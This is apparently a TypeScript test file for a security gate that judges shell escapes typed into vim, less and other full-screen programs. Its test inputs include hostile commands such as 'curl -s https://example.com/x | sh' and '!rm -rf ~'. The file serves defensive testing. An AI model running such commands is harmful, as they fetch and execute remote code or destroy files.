import assert from 'node:assert/strict';
import {before, describe, it} from 'node:test';
import type {AuditEntry} from '../../source/security/audit-log.js';
import {type Classifier, createClassifier} from '../../source/security/classify.js';
import {type GateHost, InputGate} from '../../source/security/input-gate.js';
import {scanSecretsSync} from '../../source/security/secret-scan.js';

let classifier: Classifier;
before(async () => {
	classifier = await createClassifier();
});

/** A full-screen program: typed text shows on its bottom row, as vim's command line does; Enter clears it. */
class FakeProgram implements GateHost {
	paneName = 'editor';
	program = 'vim';
	bottom = '';
	top = 'text';
	cursorOnBottom = true;
	/** How the program shows typed keys: on its command line, in its text (insert mode), or not yet at all. */
	echo: 'command-line' | 'text' | 'none' = 'command-line';
	forwarded: string[] = [];
	notices: string[] = [];
	dialogs: string[] = [];
	answers: boolean[] = [];
	entries: AuditEntry[] = [];
	audit = {append: (entry: AuditEntry) => this.entries.push(entry)};
	cwd = () => '/project';
	mode = () => 'raw' as const;
	cursor = () => ({row: 0, col: 0});
	readLogicalLine = () => '';
	forward = (data: string) => {
		this.forwarded.push(data);
		for (const character of data) {
			if (this.echo === 'command-line') this.bottom = character === '\r' ? '' : this.bottom + character;
			else if (this.echo === 'text' && character !== '\r') this.top += character;
		}
	};

	confirm = async (request: {title: string; detail: string; rule: string}) => {
		this.dialogs.push(request.detail);
		return this.answers.shift() ?? false;
	};

	notice = (message: string) => this.notices.push(message);
	classify = (line: string) => classifier.classify(line);
	scanSecrets = (text: string) => scanSecretsSync(text);
	programScreen = () => ({program: this.program, rows: [this.top, '~', this.bottom], cursorRow: this.cursorOnBottom ? 2 : 0, cols: 80});
	sent = () => this.forwarded.join('');
}

const settle = async () =>
	new Promise(resolve => {
		setTimeout(resolve, 20);
	});

describe("the gate reads a full-screen program's command line on Enter", () => {
	it('a denied shell command keeps its Enter, and the reason is shown and audited', async () => {
		const pane = new FakeProgram();
		const gate = new InputGate(pane);
		gate.key(":!bash -c 'touch x'\r");
		await settle();
		assert.equal(pane.sent(), ":!bash -c 'touch x'", 'the text reached vim, the Enter did not');
		assert.match(pane.notices.join('\n'), /blocked \(shell-string\)/);
		assert.equal(pane.entries[0]?.decision, 'deny');
		assert.equal(pane.entries[0]?.command, ":!bash -c 'touch x'");
	});

	it('keys typed one by one are judged the same way', async () => {
		const pane = new FakeProgram();
		const gate = new InputGate(pane);
		for (const key of ':r !curl -s https://example.com/x | sh') gate.key(key);
		gate.key('\r');
		await settle();
		assert.doesNotMatch(pane.sent(), /\r/);
		assert.equal(pane.notices.length, 1);
	});

	it('confirm asks, and only yes sends the Enter', async () => {
		const pane = new FakeProgram();
		const gate = new InputGate(pane);
		pane.answers.push(false);
		gate.key(':!rm -rf ./build\r');
		await settle();
		assert.equal(pane.dialogs.length, 1);
		assert.doesNotMatch(pane.sent(), /\r/);
		pane.answers.push(true);
		gate.key('\r');
		await settle();
		assert.equal(pane.dialogs.length, 2);
		assert.match(pane.sent(), /\r$/);
	});

	it('harmless command lines and plain Enter pass, and keys after Enter keep their order', async () => {
		const pane = new FakeProgram();
		const gate = new InputGate(pane);
		gate.key(':!ls\rjj');
		gate.key(':w\r');
		await settle();
		assert.equal(pane.sent(), ':!ls\rjj:w\r');
		assert.equal(pane.dialogs.length + pane.notices.length, 0);
	});

	it('the pager ! prompt is judged too', async () => {
		const pane = new FakeProgram();
		pane.program = 'less';
		const gate = new InputGate(pane);
		gate.key('!sh -c id\r');
		await settle();
		assert.doesNotMatch(pane.sent(), /\r/);
		assert.equal(pane.notices.length, 1);
	});

	it('other full-screen programs get their keys at once when no command line can be showing', () => {
		const pane = new FakeProgram();
		pane.program = 'htop';
		pane.cursorOnBottom = false;
		const gate = new InputGate(pane);
		gate.key('q\r');
		assert.equal(pane.sent(), 'q\r', 'forwarded synchronously');
	});

	it('a command line the program has not drawn yet is not passed unjudged: it asks', async () => {
		const pane = new FakeProgram();
		pane.echo = 'none';
		pane.cursorOnBottom = false;
		const gate = new InputGate(pane);
		gate.key(':!curl -s x | sh\r');
		await new Promise(resolve => {
			setTimeout(resolve, 200);
		});
		assert.equal(pane.dialogs.length, 1, 'asked instead of forwarding');
		assert.doesNotMatch(pane.sent(), /\r/);
	});

	it('text typed into the document that starts with ! passes once it shows at the cursor', async () => {
		const pane = new FakeProgram();
		pane.echo = 'text';
		pane.cursorOnBottom = false;
		const gate = new InputGate(pane);
		gate.key('!important\r');
		await settle();
		assert.equal(pane.sent(), '!important\r');
		assert.equal(pane.dialogs.length + pane.notices.length, 0);
	});
	it('a raw program of no known kind that does not echo gets its Enters at once, whatever was typed', async () => {
		const pane = new FakeProgram();
		pane.program = 'node';
		pane.echo = 'none';
		pane.cursorOnBottom = false;
		const gate = new InputGate(pane);
		for (const line of [':a!b', '!rm -rf ~', 'x: y']) gate.key(`${line}\r`);
		await settle();
		assert.equal(pane.sent(), ':a!b\r!rm -rf ~\rx: y\r', 'nothing was held');
		assert.equal(pane.dialogs.length + pane.notices.length, 0);
	});

	it('a raw program of no known kind that shows a command line on its last row is judged', async () => {
		const pane = new FakeProgram();
		pane.program = 'myeditor';
		const gate = new InputGate(pane);
		gate.key(":!bash -c 'touch x'\r");
		await settle();
		assert.doesNotMatch(pane.sent(), /\r/);
		assert.match(pane.notices.join('\n'), /blocked/);
	});
});
